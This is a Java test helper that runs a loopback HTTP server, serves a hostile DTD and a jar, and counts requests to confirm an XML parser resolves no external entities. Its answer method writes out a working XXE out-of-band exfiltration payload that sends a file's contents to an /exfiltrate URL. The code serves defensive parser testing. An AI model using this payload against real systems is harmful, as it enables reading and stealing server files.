package org.tarjima.reliability;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * An HTTP server on the loopback interface that an XML parser would reach if it resolved anything: it serves a
 * malicious DTD, an entity's text and a jar, and counts every request. A hostile input passes only with zero hits.
 */
final class LoopbackServer implements AutoCloseable {

    /** What an entity fetched over HTTP would expand to; must never appear anywhere. */
    static final String REMOTE_TEXT = "REMOTE-ENTITY-TEXT-7f3c";
    /** The text inside the jar served at /evil.jar; must never appear anywhere. */
    static final String JAR_TEXT = "JAR-ENTITY-TEXT-91ab";

    private final HttpServer server;
    private final List<String> requests = new ArrayList<>();

    private LoopbackServer(HttpServer server) {
        this.server = server;
    }

    static LoopbackServer start() {
        try {
            HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
            LoopbackServer loopback = new LoopbackServer(server);
            server.createContext("/", exchange -> {
                loopback.hit(exchange.getRequestMethod() + " " + exchange.getRequestURI());
                byte[] body = loopback.answer(exchange.getRequestURI().getPath());
                exchange.sendResponseHeaders(200, body.length);
                try (OutputStream out = exchange.getResponseBody()) {
                    out.write(body);
                }
            });
            server.start();
            return loopback;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private synchronized void hit(String request) {
        requests.add(request);
    }

    private byte[] answer(String path) {
        if (path.endsWith(".dtd")) {
            // The classic out-of-band exfiltration: %file; is sent back to us inside a URL.
            return ("<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '" + url("/exfiltrate?data=") + "%file;'>\">\n%all;\n"
                    + "<!ENTITY remote \"" + REMOTE_TEXT + "\">\n").getBytes(StandardCharsets.UTF_8);
        }
        if (path.endsWith(".jar") || path.endsWith(".zip")) {
            ByteArrayOutputStream jar = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(jar)) {
                zip.putNextEntry(new ZipEntry("a.txt"));
                zip.write(JAR_TEXT.getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            return jar.toByteArray();
        }
        return REMOTE_TEXT.getBytes(StandardCharsets.UTF_8);
    }

    String url(String path) {
        return "http://127.0.0.1:" + server.getAddress().getPort() + path;
    }

    synchronized int hits() {
        return requests.size();
    }

    synchronized List<String> requests() {
        return List.copyOf(requests);
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
